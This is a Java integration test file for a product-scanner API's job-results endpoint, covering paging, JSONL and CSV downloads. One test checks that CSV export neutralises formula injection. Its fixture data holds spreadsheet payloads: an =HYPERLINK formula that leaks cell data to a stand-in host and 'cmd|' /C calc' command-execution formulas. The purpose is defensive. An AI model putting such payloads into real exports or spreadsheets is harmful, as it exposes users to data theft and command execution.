package io.productscanner.runtime.results;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.productscanner.runtime.job.JobRecord;
import io.productscanner.runtime.job.JobStatus;
import io.productscanner.runtime.job.JobStore;
import io.productscanner.runtime.json.Json;
import io.productscanner.runtime.product.ProductResult;
import io.productscanner.runtime.testing.TestApi;
import io.productscanner.runtime.testing.TestRedis;
import io.productscanner.runtime.workflow.nodes.SaveResultNode;
import java.io.StringWriter;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code GET /api/v2/jobs/{id}/results} through the real Helidon API, over a real Redis and real files. */
class ResultsApiTest {
    @TempDir
    static Path root;

    private static TestApi api;
    private static TestRedis redis;

    private final JobStore store = redis.store();

    @BeforeAll
    static void startApi() throws Exception {
        api = TestApi.in(root).start();
        redis = api.redis();
    }

    @AfterAll
    static void stopApi() {
        api.close();
    }

    /** A finished job whose {@code save_result} stored {@code products}. */
    private JobRecord finishedJob(List<ProductResult> products) throws Exception {
        JobRecord job = ResultsFixtures.job(ResultsFixtures.newJobId(), "musinsa", "2025-11-27T08:00:00.000Z");
        redis.connections()
                .commands()
                .hset(redis.keys().job(job.jobId()), ResultsFixtures.jobHash(job, JobStatus.COMPLETED));
        ResultsFixtures.save(new SaveResultNode(new ResultsDirectory(root.resolve("results"))), store, job, products);
        return job;
    }

    @Test
    void followingNextCursorReadsEveryResultOnceInOrder() throws Exception {
        List<ProductResult> products = ResultsFixtures.products(250);
        JobRecord job = finishedJob(products);

        List<JsonNode> read = new ArrayList<>();
        List<Integer> pageSizes = new ArrayList<>();
        String query = "?limit=100";
        while (true) {
            JsonNode data = getJson("/api/v2/jobs/" + job.jobId() + "/results" + query, 200)
                    .path("data");
            assertEquals(250, data.path("total").asLong());
            assertEquals("completed", data.path("status").asText());
            data.path("items").forEach(read::add);
            pageSizes.add(data.path("items").size());
            if (data.path("next_cursor").isNull()) {
                break;
            }
            query = "?limit=100&cursor=" + data.path("next_cursor").asText();
        }
        assertEquals(List.of(100, 100, 50), pageSizes);
        assertEquals(ResultsFixtures.asJson(products), read);
    }

    @Test
    void offsetPagingStillWorksAndTheLastPageHasNoNextCursor() throws Exception {
        List<ProductResult> products = ResultsFixtures.products(30);
        JobRecord job = finishedJob(products);

        JsonNode first = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=5&limit=10", 200)
                .path("data");
        assertEquals(5, first.path("offset").asLong());
        assertEquals(10, first.path("limit").asLong());
        assertEquals(ResultsFixtures.asJson(products).subList(5, 15), list(first.path("items")));
        JsonNode next = getJson(
                        "/api/v2/jobs/" + job.jobId() + "/results?cursor="
                                + first.path("next_cursor").asText(),
                        200)
                .path("data");
        assertEquals(15, next.path("offset").asLong());

        JsonNode last = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=25&limit=10", 200)
                .path("data");
        assertEquals(5, last.path("items").size());
        assertTrue(last.path("next_cursor").isNull());
    }

    @Test
    void jsonlDownloadStreamsOneResultPerLine() throws Exception {
        List<ProductResult> products = ResultsFixtures.products(120);
        JobRecord job = finishedJob(products);

        HttpResponse<String> response = get("/api/v2/jobs/" + job.jobId() + "/results?format=jsonl");
        assertEquals(200, response.statusCode());
        assertEquals(
                "application/x-ndjson",
                response.headers().firstValue("content-type").orElseThrow());
        List<JsonNode> lines = response.body().lines().map(Json::read).toList();
        assertEquals(ResultsFixtures.asJson(products), lines);
    }

    @Test
    void csvDownloadIsAnAttachmentWithAHeaderRowAndOneRowPerResult() throws Exception {
        List<ProductResult> products = ResultsFixtures.products(12);
        JobRecord job = finishedJob(products);

        HttpResponse<String> response = get("/api/v2/jobs/" + job.jobId() + "/results?format=csv");
        assertEquals(200, response.statusCode());
        assertTrue(response.headers().firstValue("content-type").orElseThrow().startsWith("text/csv"));
        assertEquals(
                "attachment; filename=job_musinsa_" + job.jobId() + ".csv",
                response.headers().firstValue("content-disposition").orElseThrow());
        StringWriter expected = new StringWriter();
        ResultsCsv.writeHeader(expected);
        for (JsonNode result : ResultsFixtures.asJson(products)) {
            ResultsCsv.writeResult(expected, result);
        }
        assertEquals(expected.toString(), response.body());
        assertTrue(response.body().contains("\"셔츠 \"\"오버핏\"\",\n블랙 0\""), "UTF-8 and quoting survive the wire");
    }

    @Test
    void csvDownloadNeutralisesFormulasFromSellersAndCallersWhileJsonlKeepsEveryByte() throws Exception {
        String sellerName = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"특가, 클릭\")";
        ProductResult hostile = Json.MAPPER.convertValue(
                Json.MAPPER
                        .createObjectNode()
                        .put("url", "https://www.musinsa.com/products/1")
                        .put("platform", "musinsa")
                        .put("product_id", "1")
                        .put("product_set_id", "@SUM(1+1)*cmd|' /C calc'!A0")
                        .put("status", "success")
                        .put("match", false)
                        .<ObjectNode>set(
                                "expected",
                                Json.MAPPER
                                        .createObjectNode()
                                        .put("product_name", "+cmd|' /C calc'!A0")
                                        .put("original_price", -1000)
                                        .put("sale_status", "\t=1+1"))
                        .<ObjectNode>set(
                                "fetched",
                                Json.MAPPER
                                        .createObjectNode()
                                        .put("product_name", sellerName)
                                        .put("brand", "-2+3")
                                        .put("original_price", -1000)
                                        .put("sale_status", "on_sale")
                                        .put("raw_status", "\r=1"))
                        .set(
                                "comparison",
                                Json.MAPPER
                                        .createObjectNode()
                                        .put("product_name", false)
                                        .put("original_price", true)),
                ProductResult.class);
        JobRecord job = finishedJob(List.of(hostile));
        String results = "/api/v2/jobs/" + job.jobId() + "/results";

        HttpResponse<String> csv = get(results + "?format=csv");
        assertEquals(200, csv.statusCode());
        List<List<String>> rows = csvRows(csv.body());
        assertEquals(2, rows.size(), csv.body());
        Map<String, String> row = new HashMap<>();
        for (int i = 0; i < rows.get(0).size(); i++) {
            row.put(rows.get(0).get(i), rows.get(1).get(i));
        }
        for (String cell : rows.get(1)) {
            assertFalse(
                    !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"),
                    "a cell a spreadsheet runs as a formula: " + cell);
        }
        assertEquals("'" + sellerName, row.get("fetched_product_name"), "the seller's text, behind a quote");
        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get("product_set_id"));
        assertEquals("'+cmd|' /C calc'!A0", row.get("expected_product_name"));
        assertEquals("'\t=1+1", row.get("expected_sale_status"));
        assertEquals("'-2+3", row.get("fetched_brand"));
        assertEquals("'\r=1", row.get("fetched_raw_status"));
        assertEquals("-1000", row.get("expected_original_price"), "a number stays a number");
        assertEquals("-1000", row.get("fetched_original_price"));

        byte[] exact = (Json.write(hostile) + "\n").getBytes(StandardCharsets.UTF_8);
        assertArrayEquals(exact, getBytes(results + "?format=jsonl"), "JSON Lines carry each result untouched");
        assertTrue(new String(exact, StandardCharsets.UTF_8)
                .contains("\"product_name\":\"=HYPERLINK(\\\"https://evil.example/"));
        redis.connections().commands().del(redis.keys().results(job.jobId()));
        assertArrayEquals(
                exact, getBytes(results + "?format=jsonl"), "and so does the results file, once Redis has let them go");
        assertEquals(csv.body(), get(results + "?format=csv").body());
    }

    @Test
    void anUnknownFormatIsRefusedWithTheErrorEnvelope() throws Exception {
        JobRecord job = finishedJob(ResultsFixtures.products(1));

        JsonNode error = getJson("/api/v2/jobs/" + job.jobId() + "/results?format=xml", 400);
        assertFalse(error.path("success").asBoolean());
        assertEquals("invalid_format", error.path("error").path("code").asText());
        assertEquals("format", error.path("error").path("field").asText());
    }

    @Test
    void aCursorNotHandedOutOrOneGivenWithAnOffsetIsRefused() throws Exception {
        JobRecord job = finishedJob(ResultsFixtures.products(3));

        JsonNode forged = getJson("/api/v2/jobs/" + job.jobId() + "/results?cursor=not-a-cursor", 400);
        assertEquals("cursor", forged.path("error").path("field").asText());
        String cursor = new ResultsCursor(1).encode();
        JsonNode both = getJson("/api/v2/jobs/" + job.jobId() + "/results?offset=0&cursor=" + cursor, 400);
        assertEquals("cursor", both.path("error").path("field").asText());
    }

    @Test
    void onceRedisHasLetTheResultsGoTheFileAnswersWithTheSamePagesAndDownloads() throws Exception {
        List<ProductResult> products = ResultsFixtures.products(40);
        JobRecord job = finishedJob(products);
        String results = "/api/v2/jobs/" + job.jobId() + "/results";
        JsonNode before = getJson(results + "?limit=15", 200).path("data");
        redis.connections().commands().del(redis.keys().results(job.jobId()));

        JsonNode after = getJson(results + "?limit=15", 200).path("data");
        assertEquals(before, after);
        JsonNode second = getJson(
                        results + "?limit=15&cursor="
                                + after.path("next_cursor").asText(),
                        200)
                .path("data");
        assertEquals(ResultsFixtures.asJson(products).subList(15, 30), list(second.path("items")));
        assertEquals(
                ResultsFixtures.asJson(products),
                get(results + "?format=jsonl").body().lines().map(Json::read).toList());
    }

    @Test
    void theJobShowsItsResultsFile() throws Exception {
        JobRecord job = finishedJob(ResultsFixtures.products(2));

        JsonNode data = getJson("/api/v2/jobs/" + job.jobId(), 200).path("data");
        Path file = Path.of(data.path("results_file").asText());
        assertEquals(
                root.resolve("results/2025-11-27/job_musinsa_" + job.jobId() + ".jsonl")
                        .toAbsolutePath(),
                file);
        assertTrue(Files.isRegularFile(file));
    }

    @Test
    void aJobWithNoResultsLeftAnywhereIsNotFound() throws Exception {
        JsonNode error = getJson("/api/v2/jobs/" + ResultsFixtures.newJobId() + "/results", 404);
        assertEquals("job_not_found", error.path("error").path("code").asText());
    }

    /** RFC 4180 records (quoted fields may hold commas, quotes doubled, CR and LF), as a spreadsheet splits them. */
    private static List<List<String>> csvRows(String text) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        return rows;
    }

    private static byte[] getBytes(String path) throws Exception {
        HttpResponse<byte[]> response = api.http()
                .send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
                                .timeout(Duration.ofSeconds(10))
                                .build(),
                        HttpResponse.BodyHandlers.ofByteArray());
        assertEquals(200, response.statusCode());
        return response.body();
    }

    private static List<JsonNode> list(JsonNode array) {
        List<JsonNode> items = new ArrayList<>();
        array.forEach(items::add);
        return items;
    }

    private static JsonNode getJson(String path, int expectedStatus) throws Exception {
        HttpResponse<String> response = get(path);
        assertEquals(expectedStatus, response.statusCode(), response.body());
        return Json.read(response.body());
    }

    private static HttpResponse<String> get(String path) throws Exception {
        return api.http()
                .send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port() + path))
                                .timeout(Duration.ofSeconds(10))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
    }
}
